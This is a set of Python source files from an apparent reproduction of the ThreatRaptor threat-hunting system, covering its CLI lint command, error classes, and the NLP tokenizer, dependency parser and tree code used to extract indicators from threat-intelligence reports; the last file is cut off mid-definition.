    evaluations = sum(hunt["evaluations"] for hunt in stats["hunts"].values())
    print()
    print(
        f"batches={ingest['batches']} events={ingest['events_ingested']} "
        f"stored={ingest['events_stored']} "
        f"throughput={ingest['events_per_second']:.0f} events/s"
    )
    print(f"hunts={len(stats['hunts'])} evaluations={evaluations} alerts={len(alerts)}")
    return 0


def _command_lint(args: argparse.Namespace) -> int:
    import json

    from repro.errors import TBQLSemanticError, TBQLSyntaxError
    from repro.tbql.analysis import StaticAnalyzer

    store = None
    if args.log is not None:
        raptor = ThreatRaptor()
        raptor.load_log_file(args.log)
        store = raptor.store
    analyzer = StaticAnalyzer(store=store, backend=args.backend)

    exit_code = 0
    payload = []
    for path in args.files:
        if path == "-":
            source = sys.stdin.read()
            display = "<stdin>"
        else:
            with open(path, "r", encoding="utf-8") as handle:
                source = handle.read()
            display = path
        try:
            report = analyzer.analyze(source)
        except (TBQLSyntaxError, TBQLSemanticError) as exc:
            # A file that does not parse or type-check is rendered like any
            # other error finding, so tooling consumes one uniform shape.
            exit_code = 1
            if args.format == "json":
                payload.append(
                    {
                        "file": display,
                        "errors": 1,
                        "warnings": 0,
                        "infos": 0,
                        "failure": f"{type(exc).__name__}: {exc}",
                        "diagnostics": [],
                    }
                )
            else:
                print(f"{display}: error: {exc}")
            continue
        if report.has_errors():
            exit_code = 1
        if args.format == "json":
            payload.append({"file": display, **report.to_dict()})
        else:
            if len(report) == 0:
                print(f"{display}: clean")
            else:
                print(report.render(source_name=display))
    if args.format == "json":
        print(json.dumps(payload, indent=2))
    return exit_code


_COMMANDS = {
    "simulate": _command_simulate,
    "extract": _command_extract,
    "synthesize": _command_synthesize,
    "hunt": _command_hunt,
    "query": _command_query,
    "watch": _command_watch,
    "corpus": _command_corpus,
    "lint": _command_lint,
}


def main(argv: Sequence[str] | None = None) -> int:
    """CLI entry point; returns the process exit code."""
    parser = _build_parser()
    args = parser.parse_args(argv)
    try:
        return _COMMANDS[args.command](args)
    except ThreatRaptorError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 1
    except OSError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 1


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
