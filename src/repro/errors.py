"""Exception hierarchy shared by every ThreatRaptor reproduction subsystem.

All exceptions raised by this package derive from :class:`ThreatRaptorError`
so callers can catch a single type at the API boundary while subsystems keep
precise error categories internally.
"""

from __future__ import annotations


class ThreatRaptorError(Exception):
    """Base class for every error raised by the ``repro`` package."""


class AuditLogError(ThreatRaptorError):
    """Raised when an audit log record cannot be emitted or parsed."""


class StorageError(ThreatRaptorError):
    """Base class for storage-backend errors."""


class SchemaError(StorageError):
    """Raised when a table/graph schema is violated (unknown column, bad type)."""


class QueryError(StorageError):
    """Raised when a backend data query is malformed or cannot be executed."""


class SegmentError(StorageError):
    """Raised when an on-disk segment is torn, truncated or otherwise corrupt.

    The segmented store must never silently serve a partial segment: a column
    file whose bytes do not round-trip (bad magic, short payload, checksum
    mismatch) or a manifest that cannot be decoded raises this instead of
    degrading into wrong query answers.
    """


class ExtractionError(ThreatRaptorError):
    """Raised when the NLP extraction pipeline cannot process an OSCTI report."""


class TBQLError(ThreatRaptorError):
    """Base class for TBQL language errors."""


class TBQLSyntaxError(TBQLError):
    """Raised when TBQL source text cannot be lexed or parsed.

    Attributes:
        line: 1-based line of the offending token.
        column: 1-based column of the offending token.
    """

    def __init__(self, message: str, line: int = 0, column: int = 0) -> None:
        location = f" (line {line}, column {column})" if line else ""
        super().__init__(f"{message}{location}")
        self.line = line
        self.column = column


class TBQLSemanticError(TBQLError):
    """Raised when a syntactically valid TBQL query is semantically invalid.

    Examples include referencing an undeclared entity identifier, declaring the
    same event identifier twice, or using an attribute that does not exist for
    the entity's type.

    Attributes:
        line: 1-based line of the offending construct (0 when unknown, e.g.
            for programmatically built ASTs that never went through the lexer).
        column: 1-based column of the offending construct (0 when unknown).
    """

    def __init__(self, message: str, line: int = 0, column: int = 0) -> None:
        location = f" (line {line}, column {column})" if line else ""
        super().__init__(f"{message}{location}")
        self.line = line
        self.column = column


class TBQLAnalysisError(TBQLError):
    """Raised when static analysis finds error-severity diagnostics.

    Carried by the analyzer gate in front of query preparation and hunt
    registration.  ``diagnostics`` holds the offending
    :class:`~repro.tbql.analysis.diagnostics.Diagnostic` records (errors only).
    """

    def __init__(self, message: str, diagnostics: tuple = ()) -> None:
        super().__init__(message)
        self.diagnostics = diagnostics


class SynthesisError(TBQLError):
    """Raised when a TBQL query cannot be synthesized from a behavior graph."""


class ExecutionError(TBQLError):
    """Raised when TBQL query execution fails inside the execution engine."""


class ConfigurationError(ThreatRaptorError):
    """Raised when a configuration object contains invalid settings."""


class RetryExhaustedError(ThreatRaptorError):
    """Raised when a retry-guarded operation failed on every allowed attempt."""


class CheckpointError(ThreatRaptorError):
    """Raised when a streaming checkpoint cannot be written or restored."""


class JournalError(ThreatRaptorError):
    """Raised when the durable alert journal is corrupt beyond crash semantics."""
