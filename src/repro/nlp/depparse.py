"""Rule-based dependency parser (spaCy parser substitute).

The parser targets the declarative prose style of OSCTI reports: subjects,
relation verbs, objects, prepositional arguments, infinitive purpose clauses
("used X to read Y"), passives ("was downloaded by X"), verb conjunction
("read A and wrote B"), participial clauses ("the process X reading from Y"),
relative clauses ("..., which corresponds to ...") and parenthetical
appositions ("the curl utility (/usr/bin/curl)").

It proceeds in two passes:

1. **Chunking** — group the tagged tokens into noun phrases, verb groups,
   prepositions, conjunctions and punctuation.
2. **Attachment** — walk the chunk sequence with a small state machine and
   attach chunk heads to each other with labelled dependency arcs, producing a
   :class:`~repro.nlp.deptree.DependencyTree`.

The produced label inventory (a subset of Universal/Stanford dependencies) is
what the relation-extraction rules in :mod:`repro.nlp.relation` consume:
``nsubj``, ``nsubjpass``, ``dobj``, ``xcomp``, ``acl``, ``relcl``, ``conj``,
``prep_<word>``, ``pobj``, ``pcomp``, ``agent``, ``appos``, ``det``, ``amod``,
``compound``, ``aux``, ``auxpass``, ``advmod``, ``punct``, ``dep``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.nlp.deptree import DependencyNode, DependencyTree
from repro.nlp.lemmatizer import lemmatize
from repro.nlp.pos import PosTagger
from repro.nlp.tokenizer import Token, Tokenizer

#: Verbs whose direct object acts as the *instrument/agent* of a following
#: purpose clause ("the attacker used /bin/tar to read ...").  The relation
#: extractor treats such objects as subject-side arguments.
INSTRUMENT_VERBS = frozenset(
    {"use", "leverage", "employ", "utilize", "run", "launch", "execute", "invoke", "deploy"}
)

_NOUN_TAGS = {"NN", "NNS", "NNP", "NNPS", "PRP", "CD"}
_ADJ_TAGS = {"JJ", "JJR", "JJS"}
_VERB_TAGS = {"VB", "VBD", "VBZ", "VBG", "VBN", "VBP"}


@dataclass
class _Chunk:
    """A contiguous group of tokens treated as one attachment unit."""

    kind: str  # "NP", "VG", "IN", "TO", "CC", "WDT", "RB", "PUNCT", "OTHER"
    nodes: list[DependencyNode] = field(default_factory=list)

    @property
    def head(self) -> DependencyNode:
        """The chunk head: last noun for NPs, main verb for verb groups."""
        if self.kind == "NP":
            nouns = [node for node in self.nodes if node.pos in _NOUN_TAGS]
            return nouns[-1] if nouns else self.nodes[-1]
        if self.kind == "VG":
            verbs = [node for node in self.nodes if node.pos in _VERB_TAGS]
            return verbs[-1] if verbs else self.nodes[-1]
        return self.nodes[-1]

    @property
    def first(self) -> DependencyNode:
        return self.nodes[0]

    def is_passive_verb_group(self) -> bool:
        """True for "was/is/been + past participle" verb groups."""
        if self.kind != "VG":
            return False
        has_aux_be = any(
            node.pos == "AUX" and lemmatize(node.text, "AUX") == "be" for node in self.nodes
        )
        head = self.head
        return has_aux_be and head.pos in ("VBD", "VBN")


class DependencyParser:
    """Parses one (protected) sentence into a dependency tree."""

    def __init__(self) -> None:
        self._tokenizer = Tokenizer()
        self._tagger = PosTagger()

    # -- public API ----------------------------------------------------------

    def parse(self, sentence: str, sentence_offset: int = 0) -> DependencyTree:
        """Parse ``sentence`` (already IOC-protected) into a dependency tree."""
        tokens = self._tokenizer.tokenize(sentence)
        self._tagger.tag(tokens)
        for token in tokens:
            token.lemma = lemmatize(token.text, token.pos)
        nodes = [DependencyNode(token=token) for token in tokens]
        if not nodes:
            # Degenerate sentence (only whitespace): synthesise an empty root.
            empty = DependencyNode(token=Token(text="", start=0))
            return DependencyTree(sentence=sentence, root=empty, nodes=[empty], sentence_offset=sentence_offset)
        chunks = self._chunk(nodes)
        root = self._attach(chunks, nodes)
        return DependencyTree(
            sentence=sentence, root=root, nodes=nodes, sentence_offset=sentence_offset
        )

    # -- pass 1: chunking ------------------------------------------------------

    def _chunk(self, nodes: list[DependencyNode]) -> list[_Chunk]:
        chunks: list[_Chunk] = []
        i = 0
        count = len(nodes)
        while i < count:
            node = nodes[i]
            pos = node.pos
            if pos in ("DT",) or pos in _ADJ_TAGS or pos in _NOUN_TAGS:
                chunk = _Chunk(kind="NP")
                while i < count and (
                    nodes[i].pos in ("DT",)
                    or nodes[i].pos in _ADJ_TAGS
                    or nodes[i].pos in _NOUN_TAGS
                ):
                    chunk.nodes.append(nodes[i])
                    i += 1
                chunks.append(chunk)
                continue
            if pos in ("AUX", "MD") or pos in _VERB_TAGS:
                chunk = _Chunk(kind="VG")
                while i < count and (
                    nodes[i].pos in ("AUX", "MD", "RB") or nodes[i].pos in _VERB_TAGS
                ):
                    # Stop a verb group before a second content verb when the
                    # current group already has one (keeps "read ... wrote"
                    # as two groups even without an intervening conjunction).
                    if (
                        nodes[i].pos in _VERB_TAGS
                        and any(existing.pos in _VERB_TAGS for existing in chunk.nodes)
                        and nodes[i].pos not in ("VBN",)
                    ):
                        break
                    chunk.nodes.append(nodes[i])
                    i += 1
                chunks.append(chunk)
                continue
            if pos == "TO" or (pos == "IN" and node.token.lower == "to" and i + 1 < count and nodes[i + 1].pos in _VERB_TAGS):
                chunks.append(_Chunk(kind="TO", nodes=[node]))
                i += 1
                continue
            if pos == "IN":
                chunks.append(_Chunk(kind="IN", nodes=[node]))
                i += 1
                continue
            if pos == "CC":
                chunks.append(_Chunk(kind="CC", nodes=[node]))
                i += 1
                continue
            if pos == "WDT":
                chunks.append(_Chunk(kind="WDT", nodes=[node]))
                i += 1
                continue
            if pos == "RB":
                chunks.append(_Chunk(kind="RB", nodes=[node]))
                i += 1
                continue
            if pos == "PUNCT":
                chunks.append(_Chunk(kind="PUNCT", nodes=[node]))
                i += 1
                continue
            chunks.append(_Chunk(kind="OTHER", nodes=[node]))
            i += 1
        return chunks

    # -- pass 2: attachment ------------------------------------------------------

    def _attach(self, chunks: list[_Chunk], nodes: list[DependencyNode]) -> DependencyNode:
        state = _AttachmentState()
        for position, chunk in enumerate(chunks):
            previous = chunks[position - 1] if position > 0 else None
            if chunk.kind == "NP":
                self._attach_noun_phrase(chunk, state)
            elif chunk.kind == "VG":
                self._attach_verb_group(chunk, state, previous)
            elif chunk.kind == "IN":
                self._handle_preposition(chunk, state, previous)
            elif chunk.kind == "TO":
                state.pending_to = chunk.first
            elif chunk.kind == "CC":
                state.pending_conjunction = chunk.first
            elif chunk.kind == "WDT":
                state.pending_relative = chunk.first
            elif chunk.kind == "RB":
                state.pending_adverbs.append(chunk.first)
            elif chunk.kind == "PUNCT":
                self._handle_punctuation(chunk, state)
            else:
                state.leftovers.append(chunk.first)

        root = state.root
        if root is None:
            # No verb found: promote the first NP head (or first token).
            root = state.last_subject_head or nodes[0]
        self._attach_leftovers(state, root, nodes)
        return root

    # -- chunk handlers -----------------------------------------------------------

    def _attach_noun_phrase(self, chunk: _Chunk, state: "_AttachmentState") -> None:
        head = chunk.head
        self._build_noun_phrase_internal(chunk, head)

        if state.in_parenthesis and state.last_noun_head is not None and state.last_noun_head is not head:
            state.last_noun_head.attach(head, "appos")
            state.last_noun_head = head
            return
        if state.pending_preposition is not None:
            preposition = state.pending_preposition
            preposition.attach(head, "pobj")
            state.pending_preposition = None
            state.last_noun_head = head
            return
        if state.current_verb is None:
            # Pre-verbal NP: subject of the upcoming verb.
            state.pending_subject = head
            state.last_subject_head = head
            state.last_noun_head = head
            return
        # Post-verbal NP.
        verb = state.attachment_verb or state.current_verb
        if state.verb_has_object.get(id(verb)):
            # A second bare NP after the object — treat as apposition to the
            # previous noun ("a file /tmp/upload.tar" already chunks together,
            # so this mostly covers stray nominals).
            if state.last_noun_head is not None:
                state.last_noun_head.attach(head, "appos")
            else:
                verb.attach(head, "dep")
        else:
            verb.attach(head, "dobj")
            state.verb_has_object[id(verb)] = True
        state.last_noun_head = head

    def _build_noun_phrase_internal(self, chunk: _Chunk, head: DependencyNode) -> None:
        for node in chunk.nodes:
            if node is head:
                continue
            if node.pos == "DT":
                head.attach(node, "det")
            elif node.pos in _ADJ_TAGS:
                head.attach(node, "amod")
            elif node.pos in _NOUN_TAGS:
                head.attach(node, "compound")
            else:
                head.attach(node, "dep")

    def _attach_verb_group(
        self, chunk: _Chunk, state: "_AttachmentState", previous: _Chunk | None
    ) -> None:
        head = chunk.head
        is_passive = chunk.is_passive_verb_group()
        # Internal structure: auxiliaries, modals and adverbs under the head.
        for node in chunk.nodes:
            if node is head:
                continue
            if node.pos == "AUX":
                head.attach(node, "auxpass" if is_passive else "aux")
            elif node.pos == "MD":
                head.attach(node, "aux")
            elif node.pos == "RB":
                head.attach(node, "advmod")
            else:
                head.attach(node, "dep")
        for adverb in state.pending_adverbs:
            head.attach(adverb, "advmod")
        state.pending_adverbs.clear()

        gerund_after_noun = (
            head.pos == "VBG"
            and previous is not None
            and previous.kind == "NP"
            and state.pending_to is None
            and state.pending_conjunction is None
        )

        if state.pending_to is not None:
            # Infinitive purpose clause: "used X to read Y".
            governor = state.attachment_verb or state.current_verb or state.root
            if governor is not None and governor is not head:
                governor.attach(head, "xcomp")
                head.attach(state.pending_to, "aux")
            else:
                self._make_root_or_conj(head, state)
                head.attach(state.pending_to, "aux")
            state.pending_to = None
        elif state.pending_preposition is not None and head.pos == "VBG":
            # "by using ...": gerund complement of the preposition.
            state.pending_preposition.attach(head, "pcomp")
            state.pending_preposition = None
        elif state.pending_relative is not None:
            # Relative clause: "..., which corresponds to ...".
            governor = state.last_noun_head or state.current_verb or state.root
            if governor is not None:
                governor.attach(head, "relcl")
                head.attach(state.pending_relative, "nsubj")
            else:
                self._make_root_or_conj(head, state)
            state.pending_relative = None
        elif gerund_after_noun and state.last_noun_head is not None:
            # Participial clause: "the process /usr/bin/gpg reading from ...".
            state.last_noun_head.attach(head, "acl")
        elif state.pending_conjunction is not None and state.current_verb is not None:
            state.current_verb.attach(head, "conj")
            head.attach(state.pending_conjunction, "cc")
            state.pending_conjunction = None
        else:
            self._make_root_or_conj(head, state)
            if state.pending_subject is not None:
                label = "nsubjpass" if is_passive else "nsubj"
                head.attach(state.pending_subject, label)
                state.pending_subject = None

        if is_passive:
            state.passive_verbs.add(id(head))
        state.current_verb = head
        state.attachment_verb = head
        state.verb_has_object.setdefault(id(head), False)

    def _make_root_or_conj(self, head: DependencyNode, state: "_AttachmentState") -> None:
        if state.root is None:
            state.root = head
        else:
            state.root.attach(head, "conj")

    def _handle_preposition(
        self, chunk: _Chunk, state: "_AttachmentState", previous: _Chunk | None
    ) -> None:
        preposition = chunk.first
        word = preposition.token.lower
        # Attachment point: "of" (and "for" after a noun) modify the preceding
        # noun; everything else modifies the current verb — prepositional
        # arguments like "from /etc/passwd" belong to the action.
        if word in ("of",) and state.last_noun_head is not None:
            governor: DependencyNode | None = state.last_noun_head
        elif previous is not None and previous.kind == "NP" and word == "for" and state.last_noun_head is not None:
            governor = state.last_noun_head
        else:
            governor = state.attachment_verb or state.current_verb or state.last_noun_head
        if governor is None:
            # Sentence-initial preposition ("As a first step, ..."): hold it
            # and attach once the root verb exists.
            state.orphan_prepositions.append(preposition)
            state.pending_preposition = preposition
            return
        label = "agent" if word == "by" and id(governor) in state.passive_verbs else f"prep_{word}"
        governor.attach(preposition, label)
        state.pending_preposition = preposition

    def _handle_punctuation(self, chunk: _Chunk, state: "_AttachmentState") -> None:
        node = chunk.first
        text = node.text
        if text == "(":
            state.in_parenthesis = True
        elif text == ")":
            state.in_parenthesis = False
        elif text == ",":
            # A comma closes an open conjunction flag between clauses.
            state.pending_conjunction = None
        state.punctuation.append(node)

    def _attach_leftovers(
        self, state: "_AttachmentState", root: DependencyNode, nodes: list[DependencyNode]
    ) -> None:
        # Orphan prepositions recorded before a root existed.
        for preposition in state.orphan_prepositions:
            if preposition.parent is None and preposition is not root:
                root.attach(preposition, f"prep_{preposition.token.lower}")
        if state.pending_subject is not None and state.pending_subject.parent is None and state.pending_subject is not root:
            root.attach(state.pending_subject, "nsubj")
        for adverb in state.pending_adverbs:
            if adverb.parent is None and adverb is not root:
                root.attach(adverb, "advmod")
        for node in state.punctuation + state.leftovers:
            if node.parent is None and node is not root:
                root.attach(node, "punct" if node.pos == "PUNCT" else "dep")
        # Absolute safety net: every node must be reachable from the root.
        for node in nodes:
            if node is root:
                continue
            if node.parent is None:
                root.attach(node, "dep")


@dataclass
class _AttachmentState:
    """Mutable state threaded through the attachment pass."""

    root: DependencyNode | None = None
    current_verb: DependencyNode | None = None
    attachment_verb: DependencyNode | None = None
    pending_subject: DependencyNode | None = None
    last_subject_head: DependencyNode | None = None
    last_noun_head: DependencyNode | None = None
    pending_preposition: DependencyNode | None = None
    pending_to: DependencyNode | None = None
    pending_conjunction: DependencyNode | None = None
    pending_relative: DependencyNode | None = None
    pending_adverbs: list[DependencyNode] = field(default_factory=list)
    orphan_prepositions: list[DependencyNode] = field(default_factory=list)
    punctuation: list[DependencyNode] = field(default_factory=list)
    leftovers: list[DependencyNode] = field(default_factory=list)
    verb_has_object: dict[int, bool] = field(default_factory=dict)
    passive_verbs: set[int] = field(default_factory=set)
    in_parenthesis: bool = False


def parse_sentence(sentence: str, sentence_offset: int = 0) -> DependencyTree:
    """Module-level convenience wrapper around :class:`DependencyParser`."""
    return DependencyParser().parse(sentence, sentence_offset=sentence_offset)
