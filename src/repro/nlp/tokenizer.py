"""Tokenisation for OSCTI text (spaCy tokenizer substitute).

The tokenizer operates on *protected* text (IOCs already replaced by the dummy
word), so it only has to handle ordinary English plus report punctuation.  It
produces :class:`Token` objects carrying character offsets into the text they
were produced from, which later stages use to restore protected IOCs and to
order relation verbs by occurrence.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.nlp.ioc import PROTECTION_WORD


@dataclass
class Token:
    """One token of a sentence.

    Attributes:
        text: Surface form.
        start: Character offset of the first character (in the tokenised text).
        index: Token index within its sentence (set by the tokenizer).
        pos: Part-of-speech tag, filled in by the tagger.
        lemma: Lemma, filled in by the lemmatizer.
    """

    text: str
    start: int
    index: int = 0
    pos: str = ""
    lemma: str = ""

    @property
    def end(self) -> int:
        return self.start + len(self.text)

    @property
    def lower(self) -> str:
        return self.text.lower()

    def is_punctuation(self) -> bool:
        return bool(re.fullmatch(r"[^\w\s]+", self.text))


_CONTRACTIONS = {
    "n't": "not",
    "'s": "'s",
    "'re": "are",
    "'ve": "have",
    "'ll": "will",
    "'d": "would",
}

#: Pattern splitting a sentence into word, number, and punctuation tokens.
#: IOC-protection placeholders (``something_3``) must survive as single
#: tokens, so they are matched before the generic word rule (whose character
#: class covers neither underscores nor digits).
_TOKEN_PATTERN = re.compile(
    rf"{re.escape(PROTECTION_WORD)}_\d+"  # IOC protection placeholders
    r"|[A-Za-z]+(?:'[A-Za-z]+)?"  # words with optional apostrophe part
    r"|\d+(?:\.\d+)?"  # numbers
    r"|[^\w\s]"  # single punctuation characters
)


class Tokenizer:
    """Regex word tokenizer with contraction splitting."""

    def tokenize(self, text: str) -> list[Token]:
        """Tokenise ``text`` into :class:`Token` objects with offsets."""
        tokens: list[Token] = []
        for match in _TOKEN_PATTERN.finditer(text):
            surface = match.group(0)
            start = match.start()
            split = self._split_contraction(surface, start)
            tokens.extend(split)
        for index, token in enumerate(tokens):
            token.index = index
        return tokens

    @staticmethod
    def _split_contraction(surface: str, start: int) -> list[Token]:
        lowered = surface.lower()
        for suffix in _CONTRACTIONS:
            if lowered.endswith(suffix) and len(surface) > len(suffix):
                head = surface[: len(surface) - len(suffix)]
                tail = surface[len(surface) - len(suffix) :]
                return [
                    Token(text=head, start=start),
                    Token(text=tail, start=start + len(head)),
                ]
        return [Token(text=surface, start=start)]


def tokenize(text: str) -> list[Token]:
    """Module-level convenience wrapper around :class:`Tokenizer`."""
    return Tokenizer().tokenize(text)
