"""Dependency tree structure, annotation and simplification.

The extraction pipeline (Algorithm 1) builds one dependency tree per sentence,
then annotates nodes "whose associated tokens are useful for coreference
resolution and relation extraction tasks (e.g., IOCs, candidate IOC relation
verbs, pronouns)" and simplifies the trees "by removing paths without IOC
nodes down to the leaves".  This module provides the tree data structure plus
those two transformations; the parser that *produces* trees lives in
:mod:`repro.nlp.depparse`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator, Optional

from repro.nlp import lexicon
from repro.nlp.ioc import IOC, placeholder_index
from repro.nlp.pos import is_relation_verb_form
from repro.nlp.tokenizer import Token


@dataclass
class DependencyNode:
    """One node of a dependency tree (one token).

    Attributes:
        token: The underlying token (text, offset, POS, lemma).
        label: Dependency label of the arc from this node to its parent
            (empty for the root).
        parent: Parent node (``None`` for the root).
        children: Child nodes in sentence order.
        ioc: The original IOC when the token is a protected IOC dummy word
            (filled in by :meth:`DependencyTree.restore_iocs`).
        is_candidate_verb: Annotation flag: this node is a candidate IOC
            relation verb.
        is_pronoun: Annotation flag: this node may corefer to an IOC.
        coref: The IOC node this node was resolved to by coreference
            resolution (possibly in a different tree of the same block).
    """

    token: Token
    label: str = ""
    parent: Optional["DependencyNode"] = None
    children: list["DependencyNode"] = field(default_factory=list)
    ioc: IOC | None = None
    is_candidate_verb: bool = False
    is_pronoun: bool = False
    coref: Optional["DependencyNode"] = None

    # -- convenience accessors ----------------------------------------------

    @property
    def text(self) -> str:
        return self.token.text

    @property
    def lemma(self) -> str:
        return self.token.lemma or self.token.text.lower()

    @property
    def pos(self) -> str:
        return self.token.pos

    @property
    def index(self) -> int:
        return self.token.index

    @property
    def offset(self) -> int:
        """Character offset of the token in the sentence text."""
        return self.token.start

    def is_ioc(self) -> bool:
        """True when the node carries an IOC (directly or via coreference)."""
        return self.ioc is not None or (self.coref is not None and self.coref.ioc is not None)

    def effective_ioc(self) -> IOC | None:
        """The IOC this node stands for, following one coreference link."""
        if self.ioc is not None:
            return self.ioc
        if self.coref is not None:
            return self.coref.ioc
        return None

    def attach(self, child: "DependencyNode", label: str) -> None:
        """Attach ``child`` under this node with dependency ``label``."""
        child.parent = self
        child.label = label
        self.children.append(child)

    def detach(self, child: "DependencyNode") -> None:
        """Remove ``child`` from this node's children."""
        self.children.remove(child)
        child.parent = None

    def ancestors(self) -> Iterator["DependencyNode"]:
        """Yield ancestors from the parent up to the root."""
        node = self.parent
        while node is not None:
            yield node
            node = node.parent

    def descendants(self) -> Iterator["DependencyNode"]:
        """Yield all descendants in depth-first order."""
        for child in self.children:
            yield child
            yield from child.descendants()

    def subtree_has_ioc(self) -> bool:
        """True when this node or any descendant is an IOC node."""
        if self.is_ioc():
            return True
        return any(child.subtree_has_ioc() for child in self.children)

    def __repr__(self) -> str:  # pragma: no cover - debugging helper
        return f"DependencyNode({self.text!r}, pos={self.pos}, label={self.label})"


@dataclass
class DependencyTree:
    """The dependency tree of one sentence.

    Attributes:
        sentence: The (protected) sentence text the tree was parsed from.
        sentence_offset: Character offset of the sentence within its block.
        root: The root node.
        nodes: Every node, in token order.
    """

    sentence: str
    root: DependencyNode
    nodes: list[DependencyNode]
    sentence_offset: int = 0

    # -- queries ---------------------------------------------------------------

    def ioc_nodes(self) -> list[DependencyNode]:
        """Nodes carrying an IOC directly or through coreference, in order."""
        return [node for node in self.nodes if node.is_ioc()]

    def direct_ioc_nodes(self) -> list[DependencyNode]:
        """Nodes carrying an IOC directly (excluding coreference links)."""
        return [node for node in self.nodes if node.ioc is not None]

    def candidate_verb_nodes(self) -> list[DependencyNode]:
        """Nodes annotated as candidate relation verbs, in order."""
        return [node for node in self.nodes if node.is_candidate_verb]

    def pronoun_nodes(self) -> list[DependencyNode]:
        """Nodes annotated as potentially coreferring pronouns, in order."""
        return [node for node in self.nodes if node.is_pronoun]

    def node_at_offset(self, offset: int) -> DependencyNode | None:
        """The node whose token starts at ``offset``, if any."""
        for node in self.nodes:
            if node.offset == offset:
                return node
        return None

    def lowest_common_ancestor(
        self, first: DependencyNode, second: DependencyNode
    ) -> DependencyNode:
        """The lowest common ancestor of two nodes of this tree."""
        first_chain = [first, *first.ancestors()]
        first_set = set(map(id, first_chain))
        if id(second) in first_set:
            return second
        for ancestor in [second, *second.ancestors()]:
            if id(ancestor) in first_set:
                return ancestor
        return self.root

    def path_from_ancestor(
        self, ancestor: DependencyNode, descendant: DependencyNode
    ) -> list[DependencyNode]:
        """Nodes from ``ancestor`` (exclusive) down to ``descendant`` (inclusive).

        Returns an empty list when ``descendant`` *is* ``ancestor``.
        """
        if descendant is ancestor:
            return []
        chain: list[DependencyNode] = []
        node: DependencyNode | None = descendant
        while node is not None and node is not ancestor:
            chain.append(node)
            node = node.parent
        chain.reverse()
        return chain

    def path_from_root(self, node: DependencyNode) -> list[DependencyNode]:
        """Nodes from the root (inclusive) down to ``node`` (inclusive)."""
        chain = [node, *node.ancestors()]
        chain.reverse()
        return chain

    # -- transformations ---------------------------------------------------------

    def restore_iocs(self, replacements: list[tuple[int, IOC]]) -> None:
        """Replace protection placeholders with their original IOCs.

        Each placeholder (``something_3``) encodes the occurrence index of the
        IOC it stands for, so restoration indexes directly into
        ``replacements`` — unambiguous even when a report naturally contains
        the word "something" or several IOCs share one sentence.  The token's
        block-level offset must also match the offset recorded for that index:
        a *literal* ``something_3`` in the raw report text sits at some other
        offset and is left alone instead of stealing an unrelated IOC.

        Args:
            replacements: ``(offset, ioc)`` pairs in occurrence order; the
                list position is the placeholder index and the offset is where
                the placeholder was written in the protected block text.
        """
        for node in self.nodes:
            index = placeholder_index(node.token.text)
            if index is None or not 0 <= index < len(replacements):
                continue
            offset, ioc = replacements[index]
            if node.offset + self.sentence_offset != offset:
                continue
            node.ioc = ioc
            node.token.lemma = ioc.text

    def annotate(self) -> None:
        """Annotate IOC nodes, candidate relation verbs and pronouns.

        IOC nodes are marked by :meth:`restore_iocs`; here the verb and
        pronoun annotations are added (Algorithm 1, AnnotateTree).
        """
        for node in self.nodes:
            if node.pos.startswith("V") and is_relation_verb_form(node.text):
                node.is_candidate_verb = True
            lowered = node.token.lower
            if node.pos == "PRP" and lowered in ("it", "they", "them"):
                node.is_pronoun = True
            if node.pos in ("NN", "NNS") and lowered in lexicon.COREFERENT_NOUNS and self._has_definite_determiner(node):
                node.is_pronoun = True

    @staticmethod
    def _has_definite_determiner(node: DependencyNode) -> bool:
        return any(
            child.label == "det" and child.token.lower in ("the", "this", "that", "these", "those")
            for child in node.children
        )

    def simplify(self) -> None:
        """Remove paths without IOC nodes down to the leaves.

        A node is kept iff it is the root, it lies on a path from the root to
        an IOC node, it is a candidate relation verb, or it is an annotated
        pronoun (pronouns are needed later by coreference resolution).  This is
        the SimplifyTree step of Algorithm 1 — it shrinks the trees so later
        stages only traverse relevant structure.
        """
        keep: set[int] = {id(self.root)}
        for node in self.nodes:
            if node.is_ioc() or node.is_candidate_verb or node.is_pronoun:
                keep.add(id(node))
                for ancestor in node.ancestors():
                    keep.add(id(ancestor))

        def prune(node: DependencyNode) -> None:
            for child in list(node.children):
                if id(child) in keep:
                    prune(child)
                else:
                    node.detach(child)

        prune(self.root)
        self.nodes = [node for node in self.nodes if id(node) in keep]

    # -- debugging ----------------------------------------------------------------

    def to_lines(self) -> list[str]:
        """Indented textual rendering of the tree (for tests and debugging)."""
        lines: list[str] = []

        def render(node: DependencyNode, depth: int) -> None:
            label = node.label or "root"
            ioc_marker = f" [IOC:{node.ioc.text}]" if node.ioc else ""
            verb_marker = " [VERB]" if node.is_candidate_verb else ""
            lines.append(f"{'  ' * depth}{label}: {node.text} ({node.pos}){ioc_marker}{verb_marker}")
            for child in node.children:
                render(child, depth + 1)

        render(self.root, 0)
        return lines
