"""Coreference resolution across the dependency trees of one block.

"Across all trees of all sentences within a block, we resolve the coreference
nodes for the same IOC by checking their POS tags and dependencies, and create
connections between the nodes in the trees" (Section II-C, step 6).

This implementation resolves:

* neuter pronouns (``it``, ``they``, ``them``) to the most recent preceding
  IOC node that served as a *subject-side* argument — the actor of the
  previous step, which is what reports refer back to ("It wrote the gathered
  information ...");
* optionally (off by default to match the paper's Figure 2 output), definite
  noun phrases whose head is a coreferent noun ("the file", "this tool") to
  the most recent preceding IOC node of a compatible IOC type whose text
  contains one of the noun phrase's modifiers.

Animate pronouns (``he``, ``she``) are never resolved to IOCs: they refer to
the attacker, not to an indicator.
"""

from __future__ import annotations

from repro.nlp.deptree import DependencyNode, DependencyTree
from repro.nlp.ioc import IOCType
from repro.nlp.relation import is_subject_like

#: Coreferent head nouns mapped to the IOC types they may refer to.
_NOMINAL_TYPE_COMPATIBILITY: dict[str, frozenset[IOCType]] = {
    "file": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "files": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "archive": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "document": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "image": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "binary": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "executable": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
    "script": frozenset({IOCType.FILEPATH, IOCType.FILENAME}),
